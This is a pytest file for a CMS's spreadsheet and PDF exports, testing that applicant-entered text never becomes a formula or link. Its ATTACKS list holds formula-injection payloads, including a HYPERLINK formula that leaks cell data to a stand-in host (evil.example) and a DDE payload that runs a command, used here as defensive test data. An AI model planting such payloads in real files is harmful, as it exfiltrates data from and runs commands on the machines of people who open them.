"""Exported files open, hold what they should, and do nothing that an applicant wrote into an answer."""

import zipfile
from datetime import UTC, datetime
from io import BytesIO
from xml.etree import ElementTree

import pypdfium2
import pytest

from cms.applications.exports.pdf import pdf
from cms.applications.exports.tables import Column, Document, Table
from cms.applications.exports.xlsx import xlsx

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
NOW = datetime(2024, 6, 1, 12, tzinfo=UTC)
ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
)
HARMLESS = ("Kraj Vysočina", "Пловдив", "https://example.org", "0042", "ישראל 🚀", "a=b")


def document(*values: str | float | None) -> Document:
    table = Table("Ranking [1/2]", [Column("Theme", 40), Column("Mean")], [[value, 72.5] for value in values])
    return Document("Clusters meet Regions", ["31 May 2024, 18:00 CEST"], [table], "en")


def parts(made: bytes) -> dict[str, ElementTree.Element]:
    with zipfile.ZipFile(BytesIO(made)) as archive:
        assert archive.testzip() is None
        return {name: ElementTree.fromstring(archive.read(name)) for name in archive.namelist()}


def strings(made: bytes) -> list[str]:
    shared = parts(made)["xl/sharedStrings.xml"]
    return ["".join(one.itertext()) for one in shared.iter(f"{MAIN}si")]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_answer_becomes_a_formula_or_a_link_in_the_workbook(attack: str) -> None:
    made = parts(xlsx(document(attack)))

    cells = list(made["xl/worksheets/sheet1.xml"].iter(f"{MAIN}c"))
    assert not [one for tree in made.values() for one in tree.iter(f"{MAIN}f")]
    assert not [one for tree in made.values() for one in tree.iter(f"{MAIN}hyperlink")]
    assert not any("hyperlink" in one.attrib.get("Type", "") for tree in made.values() for one in tree.iter())
    style = next(one for one in cells if one.attrib["r"] == "A2").attrib["s"]
    formats = next(made["xl/styles.xml"].iter(f"{MAIN}cellXfs"))
    assert formats[int(style)].attrib.get("quotePrefix") == "1"


def test_other_texts_and_numbers_stand_in_the_workbook_as_they_are() -> None:
    made = xlsx(document(*HARMLESS, None))

    assert set(HARMLESS) <= set(strings(made))
    formats = next(parts(made)["xl/styles.xml"].iter(f"{MAIN}cellXfs"))
    cells = {one.attrib["r"]: one for one in parts(made)["xl/worksheets/sheet1.xml"].iter(f"{MAIN}c")}
    assert [one.text for one in cells["B2"].iter(f"{MAIN}v")] == ["72.5"]
    assert "quotePrefix" not in formats[int(cells["A2"].attrib["s"])].attrib


def test_control_characters_and_texts_longer_than_a_cell_do_not_break_the_workbook() -> None:
    made = strings(xlsx(document("a\x00b\x1f\ud800c", "😀" * 20_000)))

    assert "abc" in made
    longest = max(made, key=len)
    assert longest.endswith("[…]") and len(longest.encode("utf-16-le")) // 2 <= 32_767


def test_a_sheet_without_rows_is_still_a_sheet() -> None:
    assert strings(xlsx(document())) == ["Theme", "Mean"]


def test_the_pdf_has_every_row_in_every_script_that_its_font_has() -> None:
    made = pdf(document(*(f"Region {number} Жълт Žluť" for number in range(60))), NOW)

    read = pypdfium2.PdfDocument(made)
    pages = [page.get_textpage().get_text_range() for page in read]
    assert len(pages) > 1 and all("Theme" in page for page in pages)
    assert all(f"Region {number} Жълт Žluť" in "".join(pages) for number in range(60))


@pytest.mark.parametrize("text", [*ATTACKS, "ישראל 🚀 中文", "x" * 20_000, "**bold** {nb}", "a\x00b\x1fc", "\ud800"])
def test_whatever_stands_in_an_answer_the_pdf_can_be_read(text: str) -> None:
    read = pypdfium2.PdfDocument(pdf(document(text, None, 3), NOW))

    assert "72.5" in read[0].get_textpage().get_text_range()
